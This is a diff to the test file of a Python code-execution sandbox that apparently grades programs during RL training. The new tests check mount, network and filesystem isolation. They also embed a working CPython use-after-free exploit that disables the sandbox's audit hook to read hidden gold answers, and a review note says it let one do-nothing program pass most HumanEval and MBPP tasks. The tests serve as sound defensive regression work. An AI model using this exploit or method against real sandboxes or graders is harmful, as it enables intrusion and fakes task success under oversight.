@@ -938,9 +938,12 @@ def test_adversary_rebinds_what_the_strict_comparisons_use():
 
 
 def test_adversary_audit_hook_and_monitoring():
-    """A program's own audit hook would see the tests' code (exec/compile events); sys.monitoring (3.12+) too."""
+    """A program's own audit hook would see the tests' code (exec/compile events); sys.monitoring (3.12+) too. And
+    the perf trampoline (3.12+) wrote /tmp/perf-PID.map with no audit event (nineteenth review). Under 3.12+ both
+    were there (the test failed there only)."""
     run_adversary("import sys\nseen = []\ntry:\n    sys.addaudithook(lambda e, a: seen.append(e))\nexcept Exception:\n    pass\n"
-                  "open('x.txt', 'w').close()\nmon = hasattr(sys, 'monitoring')", "assert seen or mon")
+                  "open('x.txt', 'w').close()\nmon = hasattr(sys, 'monitoring') or hasattr(sys, 'activate_stack_trampoline')",
+                  "assert seen or mon")
 
 
 ALWAYS_EQUAL = {  # (name, program defining `def NAME`) that answer "equal" (or "close") to anything
@@ -1138,17 +1141,94 @@ def test_a_run_cannot_kill_the_others_of_its_batch():
     assert out == [(0.0, "fail")] + [(1.0, "pass")] * 3, out
 
 
-@pytest.mark.skipif(not R._own_mount(), reason="needs root and mounts (unshare -m)")
-def test_the_programs_dir_is_its_own_noexec_tmpfs():
-    """Two reviews ran native code the program wrote (a .so that libcrypto loaded through OPENSSL_CONF; with
-    os.putenv allowed again the sixteenth review's reproducer passes without the mount and fails with it): where it
-    can, the sandbox's dir is a fresh tmpfs in its own mount namespace, noexec (so such a file cannot be mapped as
-    code), 64 MiB in all, and it is the program's alone (not the caller's mount table)."""
-    r = R.run_python("import os\nprint(bool(os.statvfs('.').f_flag & os.ST_NOEXEC))\nn = 0\nfor i in range(6):\n"
+@pytest.fixture
+def secret():
+    """A world-readable file in a world-traversable dir outside the sandbox, like a data file of gold answers."""
+    d = tempfile.mkdtemp()
+    os.chmod(d, 0o755)
+    with open(os.path.join(d, "gold.txt"), "w") as f:
+        f.write("42")
+    os.chmod(f.name, 0o644)
+    yield f.name
+    shutil.rmtree(d)
+
+
+@pytest.mark.skipif(not R._own_mount(), reason="needs root, namespaces and mounts (unshare -m -n)")
+def test_a_run_sees_only_the_system_python_and_its_own_dir(secret):
+    """Where it can, the sandbox does not rest on the audit hook alone (a CPython bug undid it: nineteenth review):
+    the run's root holds the system's and Python's dirs, /proc and its own dir, a fresh tmpfs, noexec (two reviews ran
+    a .so the program wrote), 64 MiB in all; no network. Checked with calls the hook does not see (os.stat, listdir,
+    if_nameindex): the previous code showed the secret, /tmp's other files and the machine's network interfaces."""
+    r = R.run_python("import os, socket\nprint(bool(os.statvfs('.').f_flag & os.ST_NOEXEC))\nn = 0\nfor i in range(6):\n"
                      "    try:\n        open(str(i), 'wb').write(b'x' * (16 << 20))\n        n += 1\n"
-                     "    except OSError:\n        break\nprint(n)", stdin="", timeout=10)
-    assert r.stdout.split()[:2] == ["True", "3"] or r.stdout.split()[:2] == ["True", "4"], r
+                     "    except OSError:\n        break\nprint(n)\n"
+                     "try:\n    os.stat(%r)\n    print('seen')\nexcept OSError:\n    print('unseen')\n"
+                     "print(sorted(os.listdir('/')), os.listdir('/tmp'), [n for _, n in socket.if_nameindex()])" % secret,
+                     stdin="", timeout=10)
+    noexec, files, seen, rest = r.stdout.split(None, 3)
+    allowed = {"bin", "dev", "etc", "lib", "lib64", "proc", "usr", "tmp"} | {p.split("/")[1] for p in (sys.prefix, sys.base_prefix)}
+    root, tmp, nets = eval(rest.replace("] [", "], [").join("()"))
+    assert (noexec, files, seen) == ("True", "4", "unseen") and set(root) <= allowed and nets == ["lo"], r
+    assert all(n.startswith("grpo-sbx-") or "/tmp/" + n in (sys.prefix, sys.base_prefix) for n in tmp), r
     assert not any("grpo-sbx-" in line for line in open("/proc/self/mounts")), "the mount leaked to the caller"
+
+
+# The nineteenth review's use-after-free (io.BufferedReader's buffer kept by a RawIOBase.readinto past its free,
+# CPython 3.11-3.13): memory read and written from pure Python, the audit hook's closure reached through a refused
+# call's traceback and its `inside` made always true. Past that, only the run's root (above) keeps the secret away.
+UAF = r"""
+import io, struct, sys
+class Raw(io.RawIOBase):
+    def readinto(self, b):
+        global view
+        view = b
+        return 0
+    def readable(self):
+        return True
+r = io.BufferedReader(Raw(), 4096)
+r.read(1)
+del r
+v = view.cast("P")
+t = tuple(range(1000, 1505))
+base = next(i for i in range(len(v) - 1) if v[i] == id(t[0]) and v[i + 1] == id(t[1]))
+def obj(addr):
+    v[base + 2] = addr
+    return t[2]
+fake = struct.pack("7q", 1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0)
+mem = obj(id(fake) + sys.getsizeof(b"") - 1)
+rd = lambda a: int.from_bytes(mem[a:a + 8], "little")
+try:
+    open(SECRET)
+except OSError as e:
+    tb = e.__traceback__
+hook = None
+while tb is not None and hook is None:
+    frame = rd(rd(id(tb) + 24) + 24)
+    for off in range(0, 48, 8):
+        p = rd(frame + off)
+        if p > 1 << 16 and rd(p + 8) == id(type(obj)) and obj(p).__name__ == "hook":
+            hook = obj(p)
+    tb = tb.tb_next
+dict(zip(hook.__code__.co_freevars, hook.__closure__))["inside"].cell_contents = lambda r: True
+print("hook off" if open("/etc/passwd").read(5) == "root:" else "hook on")
+try:
+    print(open(SECRET).read())
+except OSError as e:
+    print(type(e).__name__)
+"""
+
+
+@pytest.mark.skipif(not R._own_mount(), reason="needs root, namespaces and mounts (unshare -m -n)")
+def test_adversary_undoes_the_audit_hook_through_a_use_after_free(secret):
+    """Nineteenth review, critical: this chain read the data's gold solutions (1,066 of 1,138 HumanEval + MBPP passed
+    by one program computing nothing). Now the hook falls, but the secret is not in the run's root."""
+    code = "SECRET = %r\n" % secret + UAF
+    r = R.run_python(code, stdin="", timeout=10)
+    if "hook off" not in r.stdout:
+        pytest.skip("the use-after-free does not work on this Python: %r" % r)
+    assert r.stdout.split() == ["hook", "off", "FileNotFoundError"], r
+    assert R.code_check(fence(code + "def f():\n    return open(SECRET).read()"),
+                        {"task": "code", "prompt": "", "test_code": "assert f() == '42'", "timeout": 10}) == (0.0, "fail")
 
 
 def test_every_io_case_runs(monkeypatch):
